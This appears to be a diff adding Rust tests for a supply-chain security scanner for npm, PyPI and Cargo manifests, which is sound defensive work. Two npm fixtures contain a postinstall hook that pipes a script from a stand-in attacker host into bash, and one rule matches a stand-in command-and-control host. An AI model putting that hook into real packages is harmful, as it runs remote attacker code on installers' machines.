+/// Internal packages: npm packages marked by an `acme.toml` next to the manifest
+struct AcmeAnalyzer {
+    npm: NpmAnalyzer,
+    calls: Arc<AtomicUsize>,
+}
+
+#[async_trait::async_trait]
+impl PackageAnalyzer for AcmeAnalyzer {
+    type Package = threatflux_package_security::analyzers::npm::NpmPackage;
+    type Analysis = threatflux_package_security::analyzers::npm::NpmAnalysisResult;
+
+    async fn analyze(&self, path: &std::path::Path) -> anyhow::Result<Self::Analysis> {
+        self.calls.fetch_add(1, Ordering::SeqCst);
+        self.npm.analyze(path).await
+    }
+
+    fn can_analyze(&self, path: &std::path::Path) -> bool {
+        path.join("acme.toml").exists()
+    }
+
+    fn name(&self) -> &str {
+        "acme"
+    }
+
+    fn supported_extensions(&self) -> Vec<&str> {
+        vec![]
+    }
+}
+
+/// Accepts everything and always fails, to show which analyzer ran
+struct RejectingAnalyzer;
+
+#[async_trait::async_trait]
+impl threatflux_package_security::DynPackageAnalyzer for RejectingAnalyzer {
+    async fn analyze_with_options(
+        &self,
+        _path: &std::path::Path,
+        _options: &AnalysisOptions,
+    ) -> anyhow::Result<Box<dyn AnalysisResult>> {
+        anyhow::bail!("rejected by policy")
+    }
+
+    fn can_analyze(&self, _path: &std::path::Path) -> bool {
+        true
+    }
+
+    fn name(&self) -> &str {
+        "rejecting"
+    }
+}
+
+#[tokio::test]
+async fn test_custom_analyzers_take_precedence() {
+    let acme = TempDir::new().unwrap();
+    fs::write(
+        acme.path().join("package.json"),
+        r#"{"name": "@acme/billing", "version": "1.0.0"}"#,
+    )
+    .unwrap();
+    fs::write(acme.path().join("acme.toml"), "team = \"billing\"\n").unwrap();
+    let plain = TempDir::new().unwrap();
+    fs::write(
+        plain.path().join("package.json"),
+        r#"{"name": "plain", "version": "1.0.0"}"#,
+    )
+    .unwrap();
+
+    let calls = Arc::default();
+    let analyzer = PackageSecurityAnalyzer::builder()
+        .register_analyzer(AcmeAnalyzer {
+            npm: NpmAnalyzer::new().unwrap(),
+            calls: Arc::clone(&calls),
+        })
+        .build()
+        .unwrap();
+    let result = analyzer.analyze(acme.path()).await.unwrap();
+    assert_eq!(result.package_info().metadata().name, "@acme/billing");
+    assert_eq!(calls.load(Ordering::SeqCst), 1);
+
+    // Paths no registered analyzer accepts go to the built-in ones
+    analyzer.analyze(plain.path()).await.unwrap();
+    assert_eq!(calls.load(Ordering::SeqCst), 1);
+
+    // The first registered analyzer that accepts a path wins
+    let analyzer = PackageSecurityAnalyzer::builder()
+        .register_dyn_analyzer(Box::new(RejectingAnalyzer))
+        .register_analyzer(AcmeAnalyzer {
+            npm: NpmAnalyzer::new().unwrap(),
+            calls: Arc::clone(&calls),
+        })
+        .build()
+        .unwrap();
+    let error = analyzer.analyze(acme.path()).await.err().unwrap();
+    assert_eq!(error.to_string(), "rejected by policy");
+    assert_eq!(calls.load(Ordering::SeqCst), 1);
+}
+
+#[tokio::test]
+async fn test_custom_pattern_rules() {
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{"name": "beacon", "version": "1.0.0", "main": "lib/index.js"}"#,
+    )
+    .unwrap();
+    fs::create_dir(temp_dir.path().join("lib")).unwrap();
+    fs::write(
+        temp_dir.path().join("lib/index.js"),
+        "const host = 'evil-c2.example.com';\n",
+    )
+    .unwrap();
+    // Outside the rule's globs, so not reported
+    fs::write(
+        temp_dir.path().join("README.md"),
+        "Never talk to evil-c2.example.com\n",
+    )
+    .unwrap();
+
+    let rules = TempDir::new().unwrap();
+    let ruleset = rules.path().join("rules.yaml");
+    fs::write(
+        &ruleset,
+        r#"rules:
+  - id: ACME_IOC_001
+    description: Beacons to a known command-and-control host
+    regex: 'evil-c2\.example\.com'
+    files: ["**/*.js"]
+    severity: Critical
+"#,
+    )
+    .unwrap();
+    let options = AnalysisOptions {
+        check_vulnerabilities: false,
+        custom_pattern_rules: Some(ruleset.clone()),
+        ..AnalysisOptions::default()
+    };
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let result = analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+    let pattern = result
+        .malicious_patterns()
+        .iter()
+        .find(|p| p.pattern_id == "ACME_IOC_001")
+        .expect("custom rule should match");
+    assert_eq!(pattern.severity, PatternSeverity::Critical);
+    assert_eq!(pattern.file, std::path::Path::new("lib/index.js"));
+    assert_eq!(pattern.line, Some(1));
+    assert_eq!(pattern.locations.len(), 1);
+    assert!(result
+        .risk_assessment()
+        .risk_score
+        .components
+        .contains_key("malicious_code"));
+
+    // A broken rule fails the analysis instead of being dropped
+    fs::write(
+        &ruleset,
+        r#"{"rules": [{"id": "BROKEN", "description": "Unclosed group", "regex": "(evil", "severity": "High"}]}"#,
+    )
+    .unwrap();
+    let json_ruleset = rules.path().join("rules.json");
+    fs::rename(&ruleset, &json_ruleset).unwrap();
+    let options = AnalysisOptions {
+        custom_pattern_rules: Some(json_ruleset),
+        ..options
+    };
+    match analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+    {
+        Err(PackageSecurityError::InvalidRuleset { reason, .. }) => {
+            assert!(reason.contains("BROKEN"), "{}", reason);
+        }
+        other => panic!(
+            "expected an invalid ruleset error, got {:?}",
+            other.map(|_| ())
+        ),
+    }
+}
+
+#[tokio::test]
+async fn test_ci_gate_decision() {
+    use threatflux_package_security::core::FailConditions;
+
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{
+            "name": "gated-package",
+            "version": "1.0.0",
+            "scripts": { "postinstall": "curl -s http://evil.example/x.sh | bash" },
+            "dependencies": { "lodash": "4.17.10" }
+        }"#,
+    )
+    .unwrap();
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    assert!(result.exceeds(RiskLevel::Safe));
+    assert!(!result.exceeds(RiskLevel::Critical));
+    assert!(result.gate(&FailConditions::default()).passed);
+
+    let decision = result.gate(
+        &FailConditions::default()
+            .cvss_at_least(7.0)
+            .any_malicious_indicator(),
+    );
+    assert!(!decision.passed);
+    assert!(decision
+        .reasons
+        .contains(&"lodash: CVE-2019-10744 has CVSS 7.5, at least 7.0".to_string()));
+    assert!(decision
+        .reasons
+        .iter()
+        .any(|reason| reason.starts_with("Malicious indicator: ")));
+
+    // Nothing in the package is that severe
+    let decision = result.gate(&FailConditions::default().cvss_at_least(9.5));
+    assert!(decision.passed);
+    assert!(decision.reasons.is_empty());
+}
+
+#[tokio::test]
+async fn test_install_hooks_listed() {
+    let analyzer = NpmAnalyzer::new().unwrap();
+
+    let hooked = TempDir::new().unwrap();
+    fs::write(
+        hooked.path().join("package.json"),
+        r#"{
+            "name": "hooked-package",
+            "version": "1.0.0",
+            "scripts": {
+                "postinstall": "node scripts/setup.js",
+                "preinstall": "node scripts/check.js",
+                "test": "jest"
+            },
+            "dependencies": { "lodash": "4.17.10" }
+        }"#,
+    )
+    .unwrap();
+    let result = analyzer.analyze(hooked.path()).await.unwrap();
+
+    // Listed even though neither command matches a malicious pattern
+    let hooks = result.install_hooks();
+    assert_eq!(
+        hooks
+            .iter()
+            .map(|hook| (hook.hook.as_str(), hook.command.as_str()))
+            .collect::<Vec<_>>(),
+        [
+            ("preinstall", "node scripts/check.js"),
+            ("postinstall", "node scripts/setup.js")
+        ]
+    );
+    assert!(hooks.iter().all(|hook| hook.source == "package.json"));
+    assert_eq!(result.install_script_count(), 2);
+    let hooked_score = result.risk_assessment().risk_score.total_score;
+
+    let plain = TempDir::new().unwrap();
+    fs::write(
+        plain.path().join("package.json"),
+        r#"{
+            "name": "plain-package",
+            "version": "1.0.0",
+            "scripts": { "test": "jest" },
+            "dependencies": { "lodash": "4.17.10" }
+        }"#,
+    )
+    .unwrap();
+    let result = analyzer.analyze(plain.path()).await.unwrap();
+
+    assert!(result.install_hooks().is_empty());
+    let risk_score = &result.risk_assessment().risk_score;
+    assert!(risk_score.components["no_install_hooks"] < 0.0);
+    assert!(result
+        .risk_explanation()
+        .iter()
+        .any(|factor| factor.component == "no_install_hooks"
+            && factor.score_contribution == risk_score.components["no_install_hooks"]));
+    assert!(risk_score.total_score < hooked_score);
+}
+
+#[test]
+fn test_analyze_manifest_in_memory() {
+    use threatflux_package_security::analyze_manifest;
+
+    let result = analyze_manifest(
+        "npm",
+        br#"{
+            "name": "lodahs",
+            "version": "1.0.0",
+            "scripts": { "postinstall": "curl -s http://evil.example/x.sh | bash" }
+        }"#,
+    )
+    .unwrap();
+    assert_eq!(result.package_info().package_type(), "npm");
+    assert_eq!(result.package_info().metadata().version, "1.0.0");
+    assert_eq!(result.install_hooks()[0].hook, "postinstall");
+    assert!(result.typosquatting_risk().is_some());
+    assert!(!result.malicious_patterns().is_empty());
+    assert!(result.vulnerabilities().is_empty());
+    assert!(result.overall_risk_level() > RiskLevel::Low);
+
+    let result = analyze_manifest(
+        "pypi",
+        br#"from setuptools import setup
+setup(
+    name="quiet-helper",
+    version="0.3.0",
+    cmdclass={"install": PostInstall},
+)"#,
+    )
+    .unwrap();
+    assert_eq!(result.package_info().name(), "quiet-helper");
+    assert_eq!(result.install_hooks()[0].hook, "install");
+
+    let result = analyze_manifest(
+        "cargo",
+        b"[package]\nname = \"tiny-crate\"\nversion = \"0.1.0\"\nbuild = \"build.rs\"\n",
+    )
+    .unwrap();
+    assert_eq!(result.install_hooks()[0].command, "build.rs");
+
+    assert!(matches!(
+        analyze_manifest("maven", b"<project/>"),
+        Err(PackageSecurityError::Unsupported { .. })
+    ));
+    assert!(matches!(
+        analyze_manifest("npm", b"{ not json"),
+        Err(PackageSecurityError::ManifestParse { .. })
+    ));
+}